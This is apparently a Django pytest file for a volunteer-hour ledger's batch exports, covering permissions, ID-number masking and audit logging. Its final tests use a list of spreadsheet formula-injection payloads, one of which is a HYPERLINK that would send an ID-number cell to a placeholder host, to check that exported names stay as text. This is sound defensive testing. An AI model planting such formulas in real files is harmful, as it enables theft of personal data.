import io
import json
import re

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.urls import reverse
from openpyxl import load_workbook

from accounts.models import AuditEvent
from ledger import transmission
from ledger.models import HourEntry, TransmissionBatch
from ledger.services import amendment_approve, amendment_request
from tests.ledger.support import id_number

pytestmark = pytest.mark.django_db


def test_a_batch_collects_the_authoritys_unbatched_entries(plan, reviewer):
    batch = transmission.batch_create(authority=plan.authority, actor=reviewer)
    assert re.fullmatch(r"RC-150400-\d{14}-001", batch.identifier)
    assert set(batch.entries.values_list("pk", flat=True)) == set(HourEntry.objects.values_list("pk", flat=True))


def test_entries_are_never_batched_twice(plan, reviewer, entry, owner, second_reviewer):
    first = transmission.batch_create(authority=plan.authority, actor=reviewer)
    with pytest.raises(ValidationError, match="没有待报送"):
        transmission.batch_create(authority=plan.authority, actor=reviewer)
    request = amendment_request(entry=entry, actor=owner, new_hours=10, reason="更正")
    reversal, credit = amendment_approve(request=request, actor=second_reviewer)
    second = transmission.batch_create(authority=plan.authority, actor=reviewer)
    assert set(second.entries.values_list("pk", flat=True)) == {reversal.pk, credit.pk}
    assert not set(first.entries.values_list("pk", flat=True)) & {reversal.pk, credit.pk}


def test_marking_a_batch_sent_twice_sends_nothing_the_second_time(plan, reviewer):
    batch = transmission.batch_create(authority=plan.authority, actor=reviewer)
    assert transmission.batch_mark_sent(batch=batch, actor=reviewer) is True
    sent_at = TransmissionBatch.objects.get(pk=batch.pk).sent_at
    assert transmission.batch_mark_sent(batch=batch, actor=reviewer) is False
    assert TransmissionBatch.objects.get(pk=batch.pk).sent_at == sent_at
    events = AuditEvent.objects.filter(kind=AuditEvent.Kind.EXPORT, target=batch.identifier, detail__action="sent")
    assert events.count() == 1


@pytest.mark.parametrize("who", ["owner", "outsider", "reviewer_other_league", "region_reviewer"])
def test_only_the_authoritys_reviewers_batch(plan, request, who):
    with pytest.raises(PermissionDenied):
        transmission.batch_create(authority=plan.authority, actor=request.getfixturevalue(who))


def test_exports_carry_full_id_numbers(plan, reviewer):
    batch = transmission.batch_create(authority=plan.authority, actor=reviewer)
    payload = json.loads(transmission.batch_export_json(batch, full_id_numbers=True))
    assert payload["batch"] == batch.identifier and len(payload["entries"]) == 3
    assert {e["id_number"] for e in payload["entries"]} == {id_number(1), id_number(2, male=False), id_number(3)}
    sheet = load_workbook(io.BytesIO(transmission.batch_export_xlsx(batch, full_id_numbers=True))).active
    assert sheet.cell(2, 4).value == "身份证号码" and sheet.cell(3, 4).value == id_number(1)


def test_the_pages_list_create_download_and_mark_sent(client, plan, reviewer):
    client.force_login(reviewer)
    client.post(reverse("ledger:batch_create"))
    batch = TransmissionBatch.objects.get()
    assert batch.identifier in client.get(reverse("ledger:batch_list")).content.decode()
    for fmt in ("json", "xlsx"):
        response = client.get(reverse("ledger:batch_download", args=[batch.pk, fmt]))
        assert response.status_code == 200
        assert response["Content-Disposition"] == f'attachment; filename="{batch.identifier}.{fmt}"'
    assert AuditEvent.objects.filter(kind=AuditEvent.Kind.EXPORT, actor=reviewer).count() == 2
    client.post(reverse("ledger:batch_mark_sent", args=[batch.pk]))
    client.post(reverse("ledger:batch_mark_sent", args=[batch.pk]))
    assert TransmissionBatch.objects.get().sent_at is not None


@pytest.mark.parametrize("who,status", [("reviewer_other_league", 404), ("region_reviewer", 404)])
def test_other_authorities_cannot_download_a_batch(client, request, plan, reviewer, who, status):
    batch = transmission.batch_create(authority=plan.authority, actor=reviewer)
    client.force_login(request.getfixturevalue(who))
    assert client.get(reverse("ledger:batch_download", args=[batch.pk, "json"])).status_code == status
    assert client.post(reverse("ledger:batch_mark_sent", args=[batch.pk])).status_code == status


@pytest.mark.parametrize("who", ["owner", "professional"])
def test_organisers_and_professionals_have_no_batch_list(client, request, who):
    client.force_login(request.getfixturevalue(who))
    assert client.get(reverse("ledger:batch_list")).status_code == 403


def _downloaded_sheet(client, batch):
    response = client.get(reverse("ledger:batch_download", args=[batch.pk, "xlsx"]))
    assert response.status_code == 200
    return response.content, load_workbook(io.BytesIO(response.content)).active


def test_a_reviewer_without_the_unmask_permission_downloads_masked_id_numbers(client, plan, reviewer):
    batch = transmission.batch_create(authority=plan.authority, actor=reviewer)
    client.force_login(reviewer)
    _content, sheet = _downloaded_sheet(client, batch)
    assert sheet.cell(3, 4).value == id_number(1)[:6] + "********" + id_number(1)[-4:]
    payload = json.loads(client.get(reverse("ledger:batch_download", args=[batch.pk, "json"])).content)
    assert all("*" in e["id_number"] for e in payload["entries"])
    assert not AuditEvent.objects.filter(kind=AuditEvent.Kind.EXPORT, detail__full_id_numbers=True).exists()


def test_a_reviewer_with_the_unmask_permission_downloads_full_id_numbers_audited(client, plan, reviewer):
    from django.contrib.auth.models import Permission

    reviewer.user_permissions.add(Permission.objects.get(codename="view_full_personal_data"))
    batch = transmission.batch_create(authority=plan.authority, actor=reviewer)
    client.force_login(reviewer)
    _content, sheet = _downloaded_sheet(client, batch)
    assert sheet.cell(3, 4).value == id_number(1)
    assert AuditEvent.objects.filter(kind=AuditEvent.Kind.EXPORT, actor=reviewer, detail__full_id_numbers=True).count() == 1


HOSTILE_NAMES = ['=HYPERLINK("http://e.x/?"&D3,"点击")', "=1+1", "+1+1", "@SUM(1,1)", "-2+3"]


@pytest.mark.parametrize("hostile", HOSTILE_NAMES)
def test_a_formula_in_a_roster_name_stays_text_in_the_export(client, plan, reviewer, hostile):
    from ledger.models import Person

    Person.objects.filter(pk=HourEntry.objects.order_by("pk").first().person_id).update(name=hostile)
    batch = transmission.batch_create(authority=plan.authority, actor=reviewer)
    client.force_login(reviewer)
    _content, sheet = _downloaded_sheet(client, batch)
    cell = sheet.cell(3, 5)
    assert (cell.value, cell.data_type) == (hostile, "s")  # text, no visible apostrophe
    assert cell.quotePrefix  # stays text when edited in Excel or WPS
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_libreoffice_reads_the_hostile_name_as_text(client, plan, reviewer, tmp_path):
    import shutil
    import subprocess

    if not shutil.which("libreoffice"):
        pytest.skip("libreoffice is not installed")
    from ledger.models import Person

    Person.objects.filter(pk=HourEntry.objects.order_by("pk").first().person_id).update(name="=1+1")
    batch = transmission.batch_create(authority=plan.authority, actor=reviewer)
    client.force_login(reviewer)
    content, _sheet = _downloaded_sheet(client, batch)
    (tmp_path / "batch.xlsx").write_bytes(content)
    subprocess.run(["libreoffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless",
                    "--convert-to", "csv", "--outdir", str(tmp_path), str(tmp_path / "batch.xlsx")],
                   check=True, capture_output=True, timeout=120)
    third_line = (tmp_path / "batch.csv").read_text(encoding="utf-8", errors="replace").splitlines()[2]
    assert ",=1+1," in third_line and ",2," not in third_line
